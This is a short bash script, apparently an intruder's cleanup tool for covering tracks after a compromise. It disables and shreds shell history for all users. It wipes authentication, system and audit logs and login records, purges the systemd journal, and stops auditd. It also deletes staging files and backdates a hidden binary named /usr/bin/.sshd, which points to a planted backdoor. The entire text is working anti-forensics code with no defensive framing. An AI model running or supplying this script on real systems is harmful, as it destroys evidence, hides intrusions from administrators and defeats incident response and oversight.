#!/bin/bash
unset HISTFILE HISTSIZE HISTFILESIZE
export HISTFILE=/dev/null
history -c
for f in /root/.bash_history /home/*/.bash_history /root/.zsh_history; do
    [ -f "$f" ] && { shred -u -z "$f" 2>/dev/null; ln -sf /dev/null "$f"; }
done
for l in /var/log/auth.log /var/log/secure /var/log/syslog /var/log/messages /var/log/audit/audit.log; do
    [ -f "$l" ] && : > "$l"
done
: > /var/log/wtmp; : > /var/log/btmp; : > /var/log/lastlog
journalctl --rotate >/dev/null 2>&1 && journalctl --vacuum-time=1s >/dev/null 2>&1
service auditd stop 2>/dev/null; auditctl -e 0 2>/dev/null
rm -f /tmp/.f /tmp/x.tgz
touch -d "2021-03-14 09:12" /usr/bin/.sshd 2>/dev/null
